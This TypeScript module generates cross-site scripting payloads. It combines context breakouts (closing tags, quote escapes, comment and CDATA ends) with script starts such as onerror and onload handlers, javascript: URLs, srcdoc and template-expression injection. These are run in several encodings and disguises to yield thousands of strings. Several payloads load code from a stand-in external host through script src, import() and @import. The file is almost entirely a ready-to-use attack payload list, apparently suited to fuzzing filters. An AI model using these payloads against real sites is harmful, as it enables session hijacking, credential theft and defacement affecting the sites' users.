/** Ten thousand script payloads: every way out of a context, with every start of a script, in several encodings. */

/** Ways out of text, an attribute, a text-only element, a comment, a script, CDATA, a calendar line or a header. */
const WAYS_OUT = [
  "",
  '">',
  "'>",
  "`>",
  "</script>",
  "</title>",
  "</textarea>",
  "</style>",
  "</noscript>",
  "</option></select>",
  "</svg>",
  "-->",
  "]]>",
  "*/",
  '\\">',
  "\\'-",
  '"}]}</script>',
  "END:VEVENT ",
  "?>",
  "%22%3E",
];
const STARTS = [
  (run: string) => `<script>${run}</script>`,
  (run: string) => `<script src=//x.example/?${run}></script>`,
  (run: string) => `<img src=x onerror=${run}>`,
  (run: string) => `<svg onload=${run}>`,
  (run: string) => `<svg><script>${run}</script></svg>`,
  (run: string) => `<svg><animate onbegin=${run}>`,
  (run: string) => `<math><a href=javascript:${run}>x</a>`,
  (run: string) => `<body onload=${run}>`,
  (run: string) => `<input autofocus onfocus=${run}>`,
  (run: string) => `<details open ontoggle=${run}>`,
  (run: string) => `<video src=x onerror=${run}>`,
  (run: string) => `<iframe src=javascript:${run}>`,
  (run: string) => `<iframe srcdoc="<script>${run}</script>">`,
  (run: string) => `<object data=javascript:${run}>`,
  (run: string) => `<form action=javascript:${run}><button>`,
  (run: string) => `<a href=javascript:${run}>x</a>`,
  (run: string) => `<base href=//x.example/?${run}>`,
  (run: string) => `<meta http-equiv=refresh content=0;javascript:${run}>`,
  (run: string) => `<link rel=stylesheet href=//x.example/?${run}>`,
  (run: string) => `<style>@import'//x.example/?${run}'</style>`,
  (run: string) => `<template shadowrootmode=open><script>${run}</script>`,
  (run: string) => `<!--><img src=x onerror=${run}>-->`,
  (run: string) => ` onmouseover=${run} x=`,
  (run: string) => `javascript:${run}`,
  (run: string) => `{{constructor.constructor('${run}')()}}`,
];
const RUNS = ["alert(1)", "top['al'+'ert'](1)", "\\u0061lert(1)", "eval(name)", "import('//x.example')"];
const DISGUISES = [
  (text: string) => text,
  (text: string) =>
    text.replaceAll(/<(\/?)(\w)/g, (_, slash: string, letter: string) => `<${slash}${letter.toUpperCase()}`),
  (text: string) => text.replaceAll(" ", "/"),
  (text: string) => text.replaceAll("<", "&lt;").replaceAll("(", "&#40;"),
  (text: string) => text.replaceAll("<", "\uFF1C<"),
];

/** Returns the first `count` payloads, the most different ones first. */
export function payloads(count: number): string[] {
  const total = WAYS_OUT.length * STARTS.length * RUNS.length * DISGUISES.length;
  return Array.from({ length: Math.min(count, total) }, (_, index) => {
    // A step that is coprime to the total visits each once.
    let place = (index * 7_919) % total;
    const next = <Part>(list: Part[]): Part => {
      const part = list[place % list.length]!;
      place = Math.floor(place / list.length);
      return part;
    };
    const [way, start, run, disguise] = [next(WAYS_OUT), next(STARTS), next(RUNS), next(DISGUISES)];
    return way + disguise(start(run));
  });
}
